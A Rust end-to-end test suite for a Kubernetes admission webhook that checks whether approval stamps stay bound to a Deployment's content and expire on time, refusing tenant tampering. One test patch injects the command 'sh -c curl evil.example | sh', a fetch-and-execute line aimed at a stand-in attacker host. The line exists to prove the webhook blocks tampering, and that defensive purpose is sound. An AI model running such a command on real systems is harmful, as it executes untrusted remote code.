//! Approvals bound to what was approved (issue 25), on the real control plane: the stamp's
//! content digest must hold between the Deployment and the ReplicaSet its controller makes
//! (defaulting, `pod-template-hash`) and through `kubectl rollout restart`, and break for any
//! change a tenant makes, however it is split; every stamp expires.
//!
//! Key rotation is not here: the suite's webhook is started once with one key, and restarting
//! it mid-suite would disturb every other case. The rotation's overlap is tested at `serve`'s
//! flag level (src/cli/serve.rs) and on the engine with the review's clock
//! (src/engine/tests_controllers.rs).

use crate::support::*;
use crate::workloads::{pods_of, wait_for_pods, workload};
use serde_json::{Value, json};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const NS: &str = "e2e-approvals";
const EVIL: &str = "evil.example/anything:latest";

fn expect(cond: bool, what: impl FnOnce() -> String) -> Result<(), String> {
    if cond { Ok(()) } else { Err(what()) }
}

fn unix_now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64)
}

/// The tenant's namespace: agent ServiceAccount, default-deny egress, `bob` and `mallory`
/// bound to `edit`, enforcing.
fn namespace(env: &Env) -> Result<(), String> {
    env.apply_docs(&[
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS,
            "labels": {"openclaw.io/mode": "enforce"}}}),
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": AGENT_SA, "namespace": NS}}),
        deny_egress_policy(NS),
    ])?;
    editors(env, NS)?;
    env.wait_for_default_service_account(NS)
}

/// An agent that writes to its root filesystem and asks for that check's exemption.
fn writable(until: Option<&str>) -> Value {
    let mut p = hardened_pod(NS, "x");
    p["spec"]["containers"][0]["securityContext"]["readOnlyRootFilesystem"] = json!(false);
    p["metadata"]["annotations"]["openclaw.io/exempt"] = "read-only-root-filesystem".into();
    if let Some(u) = until {
        p["metadata"]["annotations"]["openclaw.io/exempt-until"] = u.into();
    }
    p
}

/// `kubectl -n NS <who> <args>`.
fn as_who(env: &Env, who: &[&str], args: &[&str]) -> Output {
    let mut all = vec!["-n", NS];
    all.extend_from_slice(who);
    all.extend_from_slice(args);
    env.kubectl(&all)
}

fn stamp_of(d: &Value) -> Option<String> {
    d["spec"]["template"]["metadata"]["annotations"]["openclaw.io/approval"]
        .as_str()
        .map(String::from)
}

fn replicasets(env: &Env, name: &str) -> Result<Vec<Value>, String> {
    let list = env.kubectl_json(&[
        "-n",
        NS,
        "get",
        "replicasets",
        "-l",
        &format!("e2e-workload={name}"),
        "-o",
        "json",
    ])?;
    Ok(list["items"].as_array().cloned().unwrap_or_default())
}

/// The events of `object` in NS, as `reason: message` lines.
fn events_of(env: &Env, object: &str) -> String {
    env.kubectl(&[
        "-n",
        NS,
        "get",
        "events",
        "--field-selector",
        &format!("involvedObject.name={object}"),
        "-o",
        "custom-columns=REASON:.reason,MSG:.message",
    ])
    .stdout
}

fn image_of(v: &Value) -> &str {
    v["spec"]["template"]["spec"]["containers"][0]["image"]
        .as_str()
        .or_else(|| v["spec"]["containers"][0]["image"].as_str())
        .unwrap_or("")
}

/// Waits until the webhook judges NS in `mode` (the namespace label is followed by watch):
/// a server-side dry run of a writable agent Pod by the tenant is refused under enforce only.
fn wait_for_mode(env: &Env, mode: &str) -> Result<(), String> {
    let out = env.kubectl(&[
        "label",
        "namespace",
        NS,
        &format!("openclaw.io/mode={mode}"),
        "--overwrite",
    ]);
    expect(out.ok, || out.all())?;
    let mut probe = writable(None);
    probe["metadata"]["name"] = "mode-probe".into();
    probe["metadata"]["annotations"] = json!({});
    env.eventually(20, || {
        let out = env.kubectl_stdin(
            &["apply", "--dry-run=server", "-f", "-", AS_USER[0]],
            &probe.to_string(),
        );
        if out.ok == (mode != "enforce") {
            Ok(())
        } else {
            Err(format!("namespace not yet judged as {mode}: {}", out.all()))
        }
    })
}

pub fn approvals_bound_to_content(env: &Env) -> Result<(), String> {
    namespace(env)?;
    let name = "approved";
    let out = env.apply(
        &workload("Deployment", NS, name, &writable(None)),
        &AS_APPROVER,
    );
    expect(out.ok, || {
        format!("approver's Deployment refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", name, "-o", "json"])?;
    let stamp = stamp_of(&stored).ok_or("no approval stamp on the approver's Deployment")?;
    expect(
        stamp.starts_with("v2;") && stamp.contains(";digest=") && stamp.contains(";expires="),
        || format!("the stamp signs no digest or expiry: {stamp}"),
    )?;
    // The ReplicaSet the controller made (defaulted again, pod-template-hash added) matched
    // the digest, and its Pods came.
    wait_for_pods(env, NS, name)?;

    // `kubectl rollout restart` by the tenant: a new ReplicaSet and its Pods, under the stamp.
    let out = as_who(env, &AS_USER, &["rollout", "restart", "deployment", name]);
    expect(out.ok, || format!("rollout restart refused: {}", out.all()))?;
    env.eventually(30, || {
        let sets = replicasets(env, name)?;
        let restarted = sets.iter().find(|rs| {
            rs["spec"]["template"]["metadata"]["annotations"]
                .get("kubectl.kubernetes.io/restartedAt")
                .is_some()
        });
        let Some(rs) = restarted else {
            return Err(format!(
                "no ReplicaSet of the restart; events:\n{}",
                events_of(env, name)
            ));
        };
        let hash = rs["metadata"]["labels"]["pod-template-hash"]
            .as_str()
            .unwrap_or("");
        let pods = pods_of(env, NS, name)?;
        if pods
            .iter()
            .any(|p| p["metadata"]["labels"]["pod-template-hash"] == hash)
        {
            Ok(())
        } else {
            Err(format!(
                "no Pod of the restarted ReplicaSet; events:\n{}",
                events_of(env, rs["metadata"]["name"].as_str().unwrap_or(""))
            ))
        }
    })?;

    // One step: the tenant swaps the image, labels kept. The stamp no longer covers it.
    let patch =
        json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || {
        format!("one-step image swap admitted: {}", out.all())
    })?;
    expect(out.all().contains("read-only-root-filesystem"), || {
        out.all()
    })?;
    // A field no check reads (the command) is content too.
    let patch = json!([{"op": "add", "path": "/spec/template/spec/containers/0/command",
        "value": ["sh", "-c", "curl evil.example | sh"]}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || format!("command swap admitted: {}", out.all()))?;

    // Two steps: the label off with the image swapped is refused on its own...
    let patch = json!([
        {"op": "remove", "path": "/spec/template/metadata/labels/app"},
        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(!out.ok, || format!("label removal admitted: {}", out.all()))?;

    // ...and should a moved template get stored anyway (the namespace in audit mode for a
    // moment, the rollout paused), the ReplicaSet the controller makes of it is refused once
    // enforce is back, and no Pod of it exists.
    let out = as_who(env, &AS_USER, &["rollout", "pause", "deployment", name]);
    expect(out.ok, || format!("pause refused: {}", out.all()))?;
    wait_for_mode(env, "audit")?;
    let patch =
        json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": EVIL}]);
    let out = as_who(
        env,
        &AS_USER,
        &[
            "patch",
            "deployment",
            name,
            "--type=json",
            "-p",
            &patch.to_string(),
        ],
    );
    expect(out.ok, || {
        format!("audit mode refused the move: {}", out.all())
    })?;
    wait_for_mode(env, "enforce")?;
    let out = as_who(env, &AS_USER, &["rollout", "resume", "deployment", name]);
    expect(out.ok, || format!("resume refused: {}", out.all()))?;
    env.eventually(30, || {
        // The Deployment controller reports a refused ReplicaSet as ReplicaSetCreateError.
        let events = events_of(env, name);
        if events.contains("ReplicaSetCreateError")
            && events.contains("refused ReplicaSet")
            && events.contains("read-only-root-filesystem")
        {
            Ok(())
        } else {
            Err(format!(
                "no refused ReplicaSet in the Deployment's events:\n{events}"
            ))
        }
    })?;
    let sets = replicasets(env, name)?;
    expect(!sets.iter().any(|rs| image_of(rs) == EVIL), || {
        "a ReplicaSet of the moved template exists".into()
    })?;
    let pods = pods_of(env, NS, name)?;
    expect(!pods.iter().any(|p| image_of(p) == EVIL), || {
        "a Pod of the moved template exists".into()
    })?;

    // The replay: the approver deletes it; the tenant recreates it with the saved stamp,
    // unchanged or changed. Both are judged without the stamp.
    let out = as_who(
        env,
        &AS_APPROVER,
        &["delete", "deployment", name, "--wait=true"],
    );
    expect(out.ok, || format!("delete: {}", out.all()))?;
    let mut saved = workload("Deployment", NS, name, &writable(None));
    saved["spec"]["template"]["metadata"]["annotations"]["openclaw.io/approval"] =
        stamp.clone().into();
    let out = env.apply(&saved, &AS_USER);
    expect(!out.ok, || {
        format!("unchanged replay admitted: {}", out.all())
    })?;
    saved["spec"]["template"]["spec"]["containers"][0]["image"] = EVIL.into();
    let out = env.apply(&saved, &AS_USER);
    expect(!out.ok, || {
        format!("changed replay admitted: {}", out.all())
    })?;
    expect(out.all().contains("read-only-root-filesystem"), || {
        out.all()
    })
}

pub fn approvals_expire(env: &Env) -> Result<(), String> {
    namespace(env)?;
    let name = "short-lived";
    // 20 s from now, in the one date format the project writes.
    let until_secs = unix_now() + 20;
    let until = openclaw_admission::engine::date::format_utc(until_secs);
    let out = env.apply(
        &workload("Deployment", NS, name, &writable(Some(&until))),
        &AS_APPROVER,
    );
    expect(out.ok, || {
        format!("approver's Deployment refused: {}", out.all())
    })?;
    let stored = env.kubectl_json(&["-n", NS, "get", "deployment", name, "-o", "json"])?;
    let stamp = stamp_of(&stored).ok_or("no approval stamp")?;
    expect(stamp.contains(&format!(";expires={until_secs};")), || {
        format!("the stamp does not expire at {until}: {stamp}")
    })?;
    wait_for_pods(env, NS, name)?;
    let before = pods_of(env, NS, name)?.len();

    // Past the expiry, a new Pod of the same ReplicaSet (a scale by the tenant) is refused.
    let wait = until_secs + 2 - unix_now();
    if wait > 0 {
        std::thread::sleep(Duration::from_secs(wait as u64));
    }
    let out = as_who(
        env,
        &AS_USER,
        &["scale", "deployment", name, "--replicas=2"],
    );
    expect(out.ok, || format!("scale refused: {}", out.all()))?;
    let rs = replicasets(env, name)?
        .first()
        .and_then(|rs| rs["metadata"]["name"].as_str().map(String::from))
        .ok_or("no ReplicaSet")?;
    env.eventually(30, || {
        let events = events_of(env, &rs);
        if events.contains("FailedCreate") && events.contains("read-only-root-filesystem") {
            Ok(())
        } else {
            Err(format!(
                "no refused Pod in the ReplicaSet's events:\n{events}"
            ))
        }
    })?;
    let after = pods_of(env, NS, name)?.len();
    expect(after == before, || {
        format!("{after} Pods after the expiry, {before} before")
    })
}
